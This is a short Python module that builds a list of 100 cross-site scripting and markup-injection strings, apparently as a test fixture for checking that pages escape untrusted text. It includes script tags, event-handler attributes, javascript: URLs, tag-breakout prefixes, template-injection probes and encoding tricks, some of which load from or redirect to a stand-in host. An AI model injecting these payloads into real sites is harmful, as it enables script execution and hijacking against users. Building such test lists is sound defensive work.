"""Text that would run a script, load something or leave the page, if a page showed it unescaped: 100 payloads."""

from __future__ import annotations

RUN = "window.pwned=1"
ELSEWHERE = "http://elsewhere.example/x"

_SCRIPTS = (
    "<script>{run}</script>",
    "<SCRIPT >{run}</SCRIPT>",
    "</script><script>{run}</script>",
    "<script src={far}></script>",
    "<script type=module>{run}</script>",
    "<scr<script>ipt>{run}</script>",
    "<svg><script>{run}</script></svg>",
    "<svg/onload={run}>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={run}>",
    "<img src=x onerror={run}>",
    "<img src='x' onerror='{run}'>",
    '<img src="x" onerror="{run}">',
    "<img src={far}>",
    "<image src=x onerror={run}>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}>",
    "<video src={far}></video>",
    "<body onload={run}>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}>",
    "<textarea autofocus onfocus={run}>",
    "<details open ontoggle={run}>",
    "<marquee onstart={run}>",
    "<iframe srcdoc='<script>parent.{run}</script>'>",
    "<iframe src=javascript:parent.{run}>",
    "<iframe src={far}></iframe>",
    "<object data={far}></object>",
    "<object data='javascript:{run}'>",
    "<embed src={far}>",
    "<link rel=stylesheet href={far}>",
    "<style>@import '{far}';</style>",
    "<style>body{{background:url({far})}}</style>",
    "<meta http-equiv=refresh content='0;url={far}'>",
    "<base href={far}>",
    "<form action={far}><button autofocus>go</button></form>",
    "<a href=javascript:{run} autofocus>x</a>",
    "<a href='{far}' ping='{far}'>x</a>",
    "<div style=background:url({far})>",
    "<table background={far}>",
)
_BREAKS = (
    '">{one}',
    "'>{one}",
    "</pre>{one}",
    "</textarea>{one}",
    "</title>{one}",
    "</style>{one}",
    "-->{one}",
    "]]>{one}",
    "</option></select>{one}",
    "</details>{one}",
)
_ODD = (
    '" onmouseover={run} x="',
    "' autofocus onfocus='{run}' x='",
    "{{{{ 7*7 }}}}{{% for x in y %}}",
    "{{{{ ''.__class__ }}}}",
    "javascript:{run}",
    "[x](javascript:{run})",
    "![x]({far})",
    "<{far}>",
    "[x]: javascript:{run}\n[x]",
    "`<script>{run}</script>`",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "\u202e<script>{run}</script>",
    "\x00<script>{run}</script>",
    "\ufeff<script>{run}</script>",
    "<script\x0c>{run}</script>",
    "<script\n>{run}</script>",
    "<!--<img src=x onerror={run}>-->",
    "<![CDATA[<script>{run}</script>]]>",
)

PAYLOADS = [
    one.format(run=RUN, far=ELSEWHERE)
    for one in (
        *_SCRIPTS,
        *_ODD,
        *(
            way.format(one=one)
            for way in _BREAKS
            for one in ("<script>{run}</script>", "<img src=x onerror={run}>", "<svg onload={run}>", "<img src={far}>")
        ),
    )
]
